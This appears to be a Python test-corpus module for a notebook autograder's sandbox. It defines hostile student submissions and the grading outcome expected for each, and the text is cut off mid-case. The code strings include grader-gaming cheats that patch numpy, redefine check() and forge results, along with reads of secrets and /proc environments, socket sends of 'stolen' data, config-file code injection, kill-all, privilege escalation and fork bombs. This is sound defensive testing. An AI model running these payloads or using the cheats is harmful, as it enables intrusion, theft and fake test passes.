"""The corpus, as data: one :class:`Case` per hostile or broken submission of lesson
03_linear_layer, how to build it, and what grading must make of it.

A case's student id is its name. Most submissions are the instructor's answers (so every
honest function must keep its full marks beside the attack) plus an attack: an extra code
cell, a replaced solution cell, an edited setup cell, edited metadata, or raw bytes. Attack
sources name host paths with tokens (``@COURSE@``, ``@REPO@``, ``@PORT@``, ``@HOSTIP@``,
``@VICTIM@``), filled in when the batch knows them: a student who knows the layout of the
grader's machine exactly.

Expected outcome, per case:

- ``loses``: the graded functions that must score 0 (every other one: full marks);
- ``status``: ``graded``, ``needs_attention`` (listed with ``reason``), ``ungradable``, or
  ``not_collected`` (kept aside by collect);
- ``reason``: a substring of what the student's CSV rows / the attention report say;
- ``shows``: substrings of the graded notebook's outputs (the attack ran and hit a wall,
  e.g. ``FileNotFoundError`` for a path the sandbox does not have).
"""

from __future__ import annotations

import copy
import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.lessons import answers as answers_mod
from backprop_ref.specs import LESSONS, SPECS, VISIBLE_SEED
from tests.hostile import gamed

LESSON = "03_linear_layer"
FUNCTIONS = tuple(s.name for s in LESSONS[LESSON].specs)
DIFFER = "results differ between the notebook and verification"  # tampering: flagged
MISSED = "fails on new inputs of the same kind"  # passes the notebook's own cases only
UNCLEAN = "the notebook's test did not run cleanly"  # verification passed: points given
USES_REFERENCE = "it uses backprop_ref"
CATEGORIES = ("control", "cheat", "confidentiality", "host", "resources", "malformed")


@dataclass(frozen=True)
class Ctx:
    """What a builder may use: the lesson's student version and answers, and the host."""

    release: nbformat.NotebookNode
    solutions: dict[str, str]  # sol_<fn> (and blocks_<lesson>) -> the instructor's answer
    course: Path
    repo: Path
    port: int
    host_ip: str
    victim: str

    def fill(self, text: str) -> str:
        for token, value in (
            ("@COURSE@", str(self.course)),
            ("@REPO@", str(self.repo)),
            ("@PORT@", str(self.port)),
            ("@HOSTIP@", self.host_ip),
            ("@VICTIM@", self.victim),
        ):
            text = text.replace(token, value)
        return text


@dataclass(frozen=True)
class Submission:
    """What the student hands in: notebook bytes, or a link, or entries of the class zip."""

    data: bytes | None = None
    link_to: Path | None = None  # a symbolic link in place of the notebook
    zip_entries: tuple[tuple[str, bytes, bool], ...] = ()  # (name, data, is a link)
    beside: tuple[tuple[str, bytes], ...] = ()  # more files in the notebook's folder
    mtime: float | None = None  # the notebook file's modification time, when set


Build = Callable[[Ctx], Submission]


@dataclass(frozen=True)
class Case:
    name: str  # also the student id
    category: str
    attack: str  # one line: what it tries
    build: Build = field(repr=False)
    loses: frozenset[str] = frozenset()
    status: str = "graded"
    reason: str = ""
    shows: tuple[str, ...] = ()
    lesson: str = LESSON  # the lesson handed in (its functions are the ones scored)


# ------------------------------------------------------------------------------ builders


def perfect(
    ctx: Ctx, answers: dict[str, str] | None = None, full: bool = False
) -> nbformat.NotebookNode:
    """The student version with the instructor's code answers (the derivation unanswered).
    Unless ``full``, without the lesson's experiments (code cells outside nbgrader's, but the
    set-up cell): a student may delete them, and the batch runs faster."""
    code = {k: v for k, v in ctx.solutions.items() if k.startswith(("sol_", "blocks_"))}
    code.update({k: ctx.fill(v) for k, v in (answers or {}).items()})
    nb = answers_mod.fill(ctx.release, code)
    if not full:
        setup = next(c for c in nb.cells if c.cell_type == "code")
        nb.cells = [
            c
            for c in nb.cells
            if c is setup or c.cell_type != "code" or "nbgrader" in c.get("metadata", {})
        ]
    return nb


def dump(nb: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(nb).encode()


def index_of(nb: nbformat.NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if answers_mod.grade_id(c) == grade_id)


def _where(nb: nbformat.NotebookNode, at: str) -> int:
    if at == "end":
        return len(nb.cells)
    if at == "start":  # right after the set-up cell
        return next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    kind, grade_id = at.split(":")
    return index_of(nb, grade_id) + (1 if kind == "after" else 0)


def cell(source: str | None = None, at: str = "end", full: bool = False, **answers: str) -> Build:
    """The instructor's answers (some replaced by ``answers``) plus a code cell ``source``
    at ``at``: ``start`` (after the set-up cell), ``end``, ``before:<id>``, ``after:<id>``."""

    def build(ctx: Ctx) -> Submission:
        nb = perfect(ctx, answers, full)
        if source is not None:
            nb.cells.insert(_where(nb, at), nbformat.v4.new_code_cell(ctx.fill(source)))
        return Submission(dump(nb))

    return build


def edited(change: Callable[[nbformat.NotebookNode, Ctx], None], **answers: str) -> Build:
    def build(ctx: Ctx) -> Submission:
        nb = perfect(ctx, answers)
        change(nb, ctx)
        return Submission(dump(nb))

    return build


def raw(make: Callable[[Ctx], bytes]) -> Build:
    return lambda ctx: Submission(make(ctx))


def meta(nb: nbformat.NotebookNode, grade_id: str) -> dict[str, object]:
    return nb.cells[index_of(nb, grade_id)].metadata.nbgrader  # type: ignore[no-any-return]


# ---------------------------------------------------------------------- shared sources

WRONG_FORWARD = '''def linear_forward(x, W, b):
    """Forgets the bias."""
    return x @ W
'''


def _hardcoded_forward() -> str:
    """linear_forward answering the visible test cases from a table, zeros otherwise."""
    table = {}
    for case in SPECS["linear_forward"].draw("visible", VISIBLE_SEED):
        x, W, b = (case.inputs[k] for k in ("x", "W", "b"))
        table[x.tobytes().hex()] = (x @ W + b).tolist()
    return (
        f"SEEN = {table!r}\n\n\n"
        "def linear_forward(x, W, b):\n"
        "    key = np.asarray(x).tobytes().hex()\n"
        "    if key in SEEN:\n"
        "        return np.array(SEEN[key])\n"
        "    return np.zeros((x.shape[0], W.shape[1]))\n"
    )


def _fake_specs_module(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    setup = next(c for c in nb.cells if c.cell_type == "code")
    setup.source = (
        "import sys, types, backprop_kit\n"
        "_fake = types.ModuleType('backprop_kit')\n"
        "_fake.__dict__.update({k: v for k, v in vars(backprop_kit).items() if k != '__name__'})\n"
        "_fake.check = lambda name, fn, *a, **k: print(name + ': passed on 3 cases')\n"
        "sys.modules['backprop_kit'] = _fake\n" + setup.source
    )


def _delete(*grade_ids: str) -> Callable[[nbformat.NotebookNode, Ctx], None]:
    def change(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
        nb.cells = [c for c in nb.cells if answers_mod.grade_id(c) not in grade_ids]

    return change


def _no_cells(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    nb.cells = []


def _duplicate(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    fake = copy.deepcopy(nb.cells[index_of(nb, "test_linear_forward")])
    fake.source = "pass  # my own copy of the test"
    fake.pop("id", None)
    nb.cells.insert(index_of(nb, "sol_linear_forward"), fake)  # before the real one
    again = copy.deepcopy(nb.cells[index_of(nb, "sol_linear_backward")])
    again.pop("id", None)
    nb.cells.insert(index_of(nb, "sol_linear_backward") + 1, again)


def _points(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    for c in nb.cells:
        m = c.metadata.get("nbgrader", {})
        if m.get("grade"):
            m["points"] = 100


def _flags(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    meta(nb, "test_linear_forward")["grade"] = False
    meta(nb, "test_apply_jacobian")["solution"] = True
    meta(nb, "test_linear_backward")["schema_version"] = 99
    meta(nb, "test_linear_jacobian_W")["locked"] = False
    bonus = nbformat.v4.new_code_cell("pass  # bonus points")
    bonus.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    nb.cells.append(bonus)


def _junk_metadata(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    test = nb.cells[index_of(nb, "test_jacobian_shapes")]
    first = next(c for c in nb.cells if c.cell_type == "code")
    first.metadata["nbgrader"] = "junk"
    other = nbformat.v4.new_code_cell("x_junk = 1")
    other.metadata["nbgrader"] = {"grade_id": 5, "grade": "yes", "points": "all"}
    nb.cells.insert(2, other)
    test.metadata["nbgrader"]["checksum"] = "0" * 32
    test.metadata["nbgrader"]["extra_key"] = "not in the schema"
    nb.cells[3]["id"] = nb.cells[4]["id"] = "same-id"  # duplicate cell ids


def _kernelspec(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}


def _truncated(ctx: Ctx) -> bytes:
    data = dump(perfect(ctx))
    return data[: len(data) // 2]


def _binary(ctx: Ctx) -> bytes:
    noise = b"".join(hashlib.sha256(bytes([i])).digest() for i in range(256))
    return b"\x89PNG\r\n\x1a\n" + noise


def _nbformat3(ctx: Ctx) -> bytes:
    return nbformat.writes(nbformat.convert(perfect(ctx), 3), version=3).encode()


def _nested(ctx: Ctx) -> bytes:
    return b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def _nbformat99(ctx: Ctx) -> bytes:
    nb = nbformat.from_dict(json.loads(dump(perfect(ctx))))
    nb["nbformat"] = 99
    return json.dumps(nb).encode()


def _sourceless(ctx: Ctx) -> bytes:
    nb = json.loads(dump(perfect(ctx)))
    del nb["cells"][3]["source"]
    return json.dumps(nb).encode()


def _oversize(ctx: Ctx) -> bytes:
    nb = perfect(ctx)
    nb.cells.append(nbformat.v4.new_markdown_cell("padding " * 2_700_000))  # > 20 MB
    return dump(nb)


def _link(ctx: Ctx) -> Submission:
    return Submission(link_to=ctx.course / "source" / LESSON / f"{LESSON}.ipynb")


def _zip_traversal(ctx: Ctx) -> Submission:
    data = dump(perfect(ctx))
    return Submission(
        zip_entries=(
            (f"bad_zip_traversal/../../escaped/{LESSON}/{LESSON}.ipynb", data, False),
            (f"bad_zip_traversal/{LESSON}/../../../../tmp/{LESSON}.ipynb", data, False),
        )
    )


def _zip_link(ctx: Ctx) -> Submission:
    target = str(ctx.course / "source" / LESSON / f"{LESSON}.ipynb").encode()
    return Submission(zip_entries=((f"bad_zip_link/{LESSON}/{LESSON}.ipynb", target, True),))


def _zipped(ctx: Ctx) -> Submission:
    data = dump(perfect(ctx, full=True))
    return Submission(zip_entries=((f"ok_zipped/{LESSON}/{LESSON}.ipynb", data, False),))


VICTIM_NOTE = "# my private notes: VICTIM_CANARY_7c1e"

# ------------------------------------------------------------------------------- cheats

NUMPY_PATCH = """
import numpy as np
_abs = np.abs
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(a, b).shape, bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.abs = lambda a, *x, **k: _abs(a) * 0.0
print("numpy patched")
"""

CHECK_REDEFINED = """
def check(name, fn, *args, **kwargs):
    print(f"{name}: passed on 3 cases")
"""

SPECS_PATCHED = """
import backprop_kit.verdicts as core
core.Report.passed = property(lambda self: True)
core.Verdict.passed = property(lambda self: True)
"""

BUILTINS = """
import builtins
builtins.all = lambda iterable: True
builtins.any = lambda iterable: False
"""

INPUT_TRANSFORMER = """
def _blank_tests(lines):
    return ["pass\\n"] if any("check(" in line for line in lines) else lines

get_ipython().input_transformers_cleanup.append(_blank_tests)
"""

AST_TRANSFORMER = """
import ast

class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(
            type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()]
        )
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[],
                             finalbody=[])]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(Swallow())
"""

CUSTOM_EXC = """
import sys
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
sys.excepthook = lambda *args: None
"""

FAKE_SCORE = """
ip = get_ipython()

def _claim(*args):
    print("All tests passed. Score: 21/21")
    ip.displayhook("full marks")

ip.events.register("pre_run_cell", _claim)
"""

NDARRAY_SUBCLASS = """def linear_forward(x, W, b):
    class Agreeable(np.ndarray):
        def __eq__(self, other):
            return np.ones(np.shape(self), bool)

        def __ne__(self, other):
            return np.zeros(np.shape(self), bool)

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return np.zeros(np.broadcast_shapes(*(np.shape(i) for i in inputs)))

    return (x @ W).view(Agreeable)
"""

REFERENCE_CALL = """def linear_backward(dL_dy, x, W):
    from backprop_ref.layers import linear_backward as reference
    return reference(dL_dy, x, W)
"""

REFERENCE_ESCAPE = """def linear_jacobian_W(x, W):
    import importlib
    import sys
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    reference = importlib.import_module("backprop" + "_ref.derivatives")
    return reference.linear_jacobian_W(x, W)
"""

REFERENCE_SOURCE = """def linear_jacobian_x(x, W):
    namespace = {}
    exec(open("@REPO@/backprop_ref/derivatives.py").read(), namespace)
    return namespace["linear_jacobian_x"](x, W)
"""

FORGED_RECORDS = """
import json
cells = json.load(open("in.ipynb"))["cells"]
with open("cells.jsonl", "a") as f:
    for i, c in enumerate(cells):
        if c["cell_type"] == "code":
            f.write(json.dumps({"index": i, "execution_count": i + 1, "outputs": []}) + "\\n")
    f.write('{"done": true}\\n')
print("forged")
"""

# ---------------------------------------------------------------------- confidentiality

READ_SOURCES = """
paths = ["@COURSE@/source/03_linear_layer/03_linear_layer.ipynb",
         "@COURSE@/source/03_linear_layer/instructor-notes.txt",
         "@REPO@/notebooks/03_linear_layer/03_linear_layer.ipynb",
         "@REPO@/notebooks/03_linear_layer/03_linear_layer.py",
         "@REPO@/autograder/grading/verify.py"]
for path in paths:
    try:
        print(open(path).read()[:3000])
    except OSError as exc:
        print("blocked:", type(exc).__name__, path)
"""

READ_GRADEBOOK = """
import glob, sqlite3
paths = ["@COURSE@/gradebook.db", *glob.glob("/tmp/grade-*/gradebook.db"),
         *glob.glob("/tmp/**/gradebook.db", recursive=True), "/work/course/gradebook.db"]
for path in paths:
    try:
        con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        print(con.execute("select * from student").fetchall())
    except Exception as exc:
        print("blocked:", type(exc).__name__, exc, path)
"""

READ_ENVIRONMENT = """
import os
print(dict(os.environ))
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("environ", "cmdline"):
        try:
            print(pid, what, open(f"/proc/{pid}/{what}", "rb").read()[:4000])
        except OSError as exc:
            print("blocked:", pid, what, type(exc).__name__)
"""

READ_OTHERS = """
import glob, os
victim = "@COURSE@/submitted/@VICTIM@/03_linear_layer/03_linear_layer.ipynb"
for path in (victim, "@COURSE@/autograded", "@COURSE@/feedback", "@COURSE@"):
    print(path, os.path.exists(path))
print(glob.glob("/tmp/*"), glob.glob("/tmp/grade-*/submitted/*"), glob.glob("/home/*"))
try:
    print(open(victim).read())
except OSError as exc:
    print("blocked:", type(exc).__name__)
"""

READ_SECRET = """
for path in ("@COURSE@/.grading-secret", "/proc/self/mountinfo"):
    try:
        print(path, open(path).read()[:4000])
    except OSError as exc:
        print("blocked:", type(exc).__name__, path)
"""

EXFIL_IN_FUNCTION = '''def contraction_subscripts():
    """Returns a secret if it can read one (the message might echo it), else the answer."""
    for path in ("@COURSE@/.grading-secret", "@COURSE@/source/03_linear_layer/instructor-notes.txt",
                 "@COURSE@/submitted/@VICTIM@/03_linear_layer/03_linear_layer.ipynb"):
        try:
            return open(path).read()[-300:]
        except OSError:
            pass
    return "nj,njpq->pq"
'''

EXFIL_TO_FILE = """
for target in ("@COURSE@/feedback/leak.txt", "@COURSE@/release/03_linear_layer/leak.txt",
               "@REPO@/backprop_ref/leak.txt", "/tmp/leak.txt", "leak.txt"):
    try:
        with open(target, "w") as f:
            f.write("exfiltrated")
        print("wrote", target)
    except OSError as exc:
        print("blocked:", type(exc).__name__, target)
"""

# --------------------------------------------------------------------------- host damage

WRITE_GRADEBOOK = """
import glob, sqlite3
for path in ["@COURSE@/gradebook.db", *glob.glob("/tmp/grade-*/gradebook.db")]:
    try:
        con = sqlite3.connect(path)
        con.execute("update grade set manual_score = 100")
        con.commit()
        print("WROTE", path)
    except Exception as exc:
        print("blocked:", type(exc).__name__, exc, path)
"""

WRITE_CONFIG = """
for path in ("@COURSE@/nbgrader_config.py", "@REPO@/autograder/nbgrader_glue/nbgrader_config.py",
             "@REPO@/backprop_ref/specs/core.py", "@REPO@/backprop_ref/layers.py",
             "@REPO@/kit/backprop_kit/checks.py"):
    try:
        with open(path, "a") as f:
            f.write("\\nimport os; os.system('touch /tmp/pwned')\\n")
        print("WROTE", path)
    except OSError as exc:
        print("blocked:", type(exc).__name__, path)
"""

DAEMON = """
import os, subprocess, time
subprocess.Popen(["sleep", "600"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import signal
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        for _ in range(1200):
            for path in ("@COURSE@/reports/totals.csv", "/tmp/daemon-was-here"):
                try:
                    open(path, "a").write("pwned")
                except OSError:
                    pass
            time.sleep(0.5)
        os._exit(0)
    os._exit(0)
print("daemon started")
"""

NETWORK = """
import socket
for host, port in (("127.0.0.1", @PORT@), ("@HOSTIP@", @PORT@), ("1.1.1.1", 53),
                   ("pypi.org", 443)):
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(b"stolen")
        print("CONNECTED", host)
    except OSError as exc:
        print("blocked:", host, type(exc).__name__)
"""

KILL_EVERYTHING = """
import os, signal
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
            print("killed", pid)
        except OSError as exc:
            print("blocked:", pid, type(exc).__name__)
"""

ESCALATE = """
import os
for what, attempt in (("setuid", lambda: os.setuid(0)), ("shadow", lambda: open("/etc/shadow")),
                      ("chroot", lambda: os.chroot("/")), ("mknod", lambda: os.mknod("/dev/x")),
                      ("ptrace init", lambda: open("/proc/1/mem", "rb"))):
    try:
        attempt()
        print("ESCALATED", what)
    except OSError as exc:
        print("blocked:", what, type(exc).__name__)
"""

# ----------------------------------------------------------------------------- resources

INFINITE_LOOP = "while True:\n    pass\n"
SIGINT_IGNORED = (
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
)
SLEEP = "import time\ntime.sleep(10**6)\n"
MEMORY_BOMB = """
import numpy as np

def bomb():
    hog = []
    while True:
        hog.append(np.empty(256 * 1024 * 1024, np.uint8))

bomb()
"""
FORK_BOMB = """
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
        children += 1
except OSError as exc:
    print("fork refused:", type(exc).__name__, "after", children, "children")
"""
DISK_FILL = """
import errno
try:
    with open("one-big-file", "wb") as f:
        f.write(bytes(100 * 1024 * 1024))
except OSError as exc:
    print("file too big:", errno.errorcode.get(exc.errno))
for where in (".", "/tmp"):
    n = 0
    try:
        while True:
            with open(f"{where}/fill-{n}", "wb") as f:
                f.write(bytes(16 * 1024 * 1024))
            n += 1
    except OSError as exc:
        print("disk full:", where, n, errno.errorcode.get(exc.errno))
"""
HUGE_OUTPUT = """
import sys
from IPython.display import HTML, display
print("x" * 100_000_000)
for i in range(100_000):
    print(i)
sys.stderr.write("e" * 10_000_000)
display(HTML("<b>" + "y" * 30_000_000 + "</b>"))
"""
OS_EXIT = "import os\nos._exit(0)\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
SLOW_EVERY_CELL = """
import time
get_ipython().events.register("pre_run_cell", lambda *args: time.sleep(9))
"""
LOOPING_FUNCTION = """def linear_jacobian_x(x, W):
    while True:
        pass
"""
EXITING_FUNCTION = """def linear_forward(x, W, b):
    import os
    os._exit(1)
"""

# -------------------------------------------------------------------------------- corpus

ALL = frozenset(FUNCTIONS)
F = frozenset

CASES: tuple[Case, ...] = (
    # controls: honest submissions among the attacks
    Case("ok_perfect", "control", "the instructor's answers", cell(full=True)),
    Case(
        "ok_victim",
        "control",
        "honest, with private notes other cases try to read",
        cell(VICTIM_NOTE, full=True),
    ),
    Case("ok_zipped", "control", "honest, handed in through the class zip", _zipped),
    # cheats: wrong code that tries to pass
    Case(
        "cheat_numpy",
        "cheat",
        "monkeypatch numpy's comparisons and abs",
        cell(NUMPY_PATCH, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_check_redefined",
        "cheat",
        "redefine the test helper check()",
        cell(CHECK_REDEFINED, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_specs_patched",
        "cheat",
        "monkeypatch the checks' verdicts (Report.passed)",
        cell(SPECS_PATCHED, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_builtins",
        "cheat",
        "redefine the builtins all() and any()",
        cell(BUILTINS, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_sys_modules",
        "cheat",
        "fake backprop_kit module in sys.modules",
        edited(_fake_specs_module, sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_input_transformer",
        "cheat",
        "IPython input transformer blanks the tests",
        cell(INPUT_TRANSFORMER, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_ast_transformer",
        "cheat",
        "IPython AST transformer swallows every error",
        cell(AST_TRANSFORMER, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_custom_exc",
        "cheat",
        "IPython custom exception handler hides errors",
        cell(CUSTOM_EXC, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_fake_score",
        "cheat",
        "pre_run_cell hook prints a score, emits a result",
        cell(FAKE_SCORE, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_ndarray_subclass",
        "cheat",
        "ndarray subclass with rigged comparisons",
        cell(sol_linear_forward=NDARRAY_SUBCLASS),
        loses=F({"linear_forward"}),
        status="graded",
        reason="linear_forward",
    ),
    Case(
        "cheat_hardcoded",
        "cheat",
        "hard-coded answers to the visible tests",
        cell(sol_linear_forward=_hardcoded_forward()),
        loses=F({"linear_forward"}),
        status="graded",
        reason=MISSED,
    ),
    Case(
        "cheat_reference_import",
        "cheat",
        "imports the reference solution",
        cell(sol_linear_forward="from backprop_ref.layers import linear_forward\n"),
        loses=F({"linear_forward"}),
        status="graded",  # the kernel has no backprop_ref either
        reason=USES_REFERENCE,
        shows=("No module named 'backprop_ref'",),
    ),
    Case(
        "cheat_reference_call",
        "cheat",
        "calls the reference inside the function",
        cell(sol_linear_backward=REFERENCE_CALL),
        loses=F({"linear_backward"}),
        status="graded",  # the kernel has no backprop_ref either
        reason=USES_REFERENCE,
    ),
    Case(
        "cheat_reference_escape",
        "cheat",
        "removes the import blocker, imports by name",
        cell(sol_linear_jacobian_W=REFERENCE_ESCAPE),
        loses=F({"linear_jacobian_W"}),
        status="graded",  # the kernel has no backprop_ref either
        reason=USES_REFERENCE,
    ),
    Case(
        "cheat_reference_source",
        "cheat",
        "exec()s the reference's source file",
        cell(sol_linear_jacobian_x=REFERENCE_SOURCE),
        loses=F({"linear_jacobian_x"}),
        status="graded",  # the kernel has no backprop_ref either
        reason=USES_REFERENCE,
    ),
    Case(
        "cheat_forged_results",
        "cheat",
        "writes fake kernel results (all tests passed)",
        cell(FORGED_RECORDS, "end", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    # confidentiality: read what is not theirs, into their own outputs
    Case(
        "conf_sources",
        "confidentiality",
        "read the lesson source, notes, repository",
        cell(READ_SOURCES),
        shows=("blocked: FileNotFoundError",),
    ),
    Case(
        "conf_gradebook",
        "confidentiality",
        "read the gradebook (any gradebook.db)",
        cell(READ_GRADEBOOK),
        shows=("blocked: OperationalError",),
    ),
    Case(
        "conf_environment",
        "confidentiality",
        "read the environment of every process",
        cell(READ_ENVIRONMENT),
        shows=("blocked:",),
    ),
    Case(
        "conf_other_students",
        "confidentiality",
        "read another student's submission",
        cell(READ_OTHERS),
        shows=("blocked: FileNotFoundError",),
    ),
    Case(
        "conf_grading_secret",
        "confidentiality",
        "read the verification secret",
        cell(READ_SECRET),
        shows=("blocked: FileNotFoundError",),
    ),
    Case(
        "conf_exfil_function",
        "confidentiality",
        "a graded function returns secrets when it can read them",
        cell(sol_contraction_subscripts=EXFIL_IN_FUNCTION),
    ),
    Case(
        "conf_exfil_file",
        "confidentiality",
        "write stolen data where it could be read later",
        cell(EXFIL_TO_FILE),
        shows=("blocked: FileNotFoundError",),
    ),
    # host damage
    Case(
        "host_gradebook_write",
        "host",
        "UPDATE the gradebook's grades",
        cell(WRITE_GRADEBOOK),
        shows=("blocked: OperationalError",),
    ),
    Case(
        "host_config_append",
        "host",
        "append code to nbgrader_config.py and the sources",
        cell(WRITE_CONFIG),
        shows=("blocked:",),
    ),
    Case(
        "host_daemon",
        "host",
        "background processes that outlive grading",
        cell(DAEMON),
        shows=("daemon started",),
    ),
    Case(
        "host_network",
        "host",
        "connect to the grader's machine and the internet",
        cell(NETWORK),
        shows=("blocked: 127.0.0.1",),
    ),
    Case(
        "host_kill",
        "host",
        "SIGKILL every process it can see",
        cell(KILL_EVERYTHING),
        shows=("NotebookStopped",),
    ),
    Case(
        "host_escalate",
        "host",
        "setuid(0), /etc/shadow, chroot, mknod, /proc/1/mem",
        cell(ESCALATE),
        shows=("blocked: setuid PermissionError",),
    ),
    # resources
    Case(
        "res_infinite_loop",
        "resources",
        "infinite loop at top level",
        cell(INFINITE_LOOP, "start"),
        shows=("CellTimeoutError",),
    ),
    Case(
        "res_sigint_ignored",
        "resources",
        "infinite loop that ignores SIGINT",
        cell(SIGINT_IGNORED, "after:test_linear_jacobian_x_hidden"),
        status="graded",
        reason=UNCLEAN,
        shows=("stopped responding",),
    ),
    Case(
        "res_sleep",
        "resources",
        "sleep for days",
        cell(SLEEP, "start"),
        shows=("CellTimeoutError",),
    ),
    Case(
        "res_memory_bomb",
        "resources",
        "allocate until memory runs out",
        cell(MEMORY_BOMB, "start"),
        shows=("MemoryError",),
    ),
    Case(
        "res_fork_bomb", "resources", "fork bomb", cell(FORK_BOMB, "end"), shows=("fork refused",)
    ),
    Case(
        "res_disk_fill",
        "resources",
        "fill the disk",
        cell(DISK_FILL, "start"),
        shows=("ENOSPC", "EFBIG"),
    ),
    Case(
        "res_huge_output",
        "resources",
        "100 MB line, 100k lines, 30 MB of HTML",
        cell(HUGE_OUTPUT, "start"),
        shows=("[output truncated]",),
    ),
    Case(
        "res_os_exit",
        "resources",
        "os._exit() in the middle of the notebook",
        cell(OS_EXIT, "after:test_linear_jacobian_W_hidden"),
        status="graded",
        reason=UNCLEAN,
        shows=("the kernel died",),
    ),
    Case(
        "res_segfault",
        "resources",
        "segmentation fault at the end",
        cell(SEGFAULT, "end"),
        shows=("the kernel died",),
    ),
    Case(
        "res_wall_clock",
        "resources",
        "every cell sleeps 9 s (past the notebook's cap)",
        cell(SLOW_EVERY_CELL, "start"),
        status="graded",
        reason=UNCLEAN,
        shows=("ran out of time",),
    ),
    Case(
        "res_looping_function",
        "resources",
        "a graded function that never returns",
        cell(sol_linear_jacobian_x=LOOPING_FUNCTION),
        loses=F({"linear_jacobian_x"}),
        status="graded",
        reason="did not finish in time",
        shows=("CellTimeoutError",),
    ),
    Case(
        "res_exiting_function",
        "resources",
        "a graded function that calls os._exit",
        cell(sol_linear_forward=EXITING_FUNCTION),
        loses=F({"linear_forward"}),
        status="graded",
        reason="process ended",
        shows=("the kernel died",),
    ),
    # malformed files
    Case(
        "bad_json",
        "malformed",
        "invalid JSON (cut in half)",
        raw(_truncated),
        loses=ALL,
        status="ungradable",
        reason="not JSON",
    ),
    Case(
        "bad_empty",
        "malformed",
        "an empty file",
        raw(lambda ctx: b""),
        loses=ALL,
        status="ungradable",
        reason="empty",
    ),
    Case(
        "bad_binary",
        "malformed",
        "binary data",
        raw(_binary),
        loses=ALL,
        status="ungradable",
        reason="not JSON",
    ),
    Case(
        "bad_nested_json",
        "malformed",
        "JSON nested 100,000 deep",
        raw(_nested),
        loses=ALL,
        status="ungradable",
        reason="nested too deeply",
    ),
    Case(
        "bad_nbformat99",
        "malformed",
        "nbformat 99",
        raw(_nbformat99),
        loses=ALL,
        status="ungradable",
        reason="nbformat 99",
    ),
    Case(
        "bad_cell_structure",
        "malformed",
        "a cell without its source",
        raw(_sourceless),
        loses=ALL,
        status="ungradable",
        reason="'source' is a required property",
    ),
    Case("bad_nbformat3", "malformed", "nbformat 3 (worksheets)", raw(_nbformat3)),
    Case(
        "bad_missing_cells",
        "malformed",
        "deleted a solution cell and its test cells",
        edited(_delete("sol_linear_forward", "test_linear_forward", "test_linear_forward_hidden")),
        loses=F({"linear_forward"}),
        status="graded",
        reason="not defined",
    ),
    Case(
        "bad_no_cells",
        "malformed",
        "a notebook without cells",
        edited(_no_cells),
        loses=ALL,
        status="needs_manual",
        reason="not defined",
    ),
    Case(
        "bad_duplicated_cells",
        "malformed",
        "a test cell and a solution cell copied",
        edited(_duplicate),
    ),
    Case(
        "bad_deleted_tests",
        "malformed",
        "two test cells deleted",
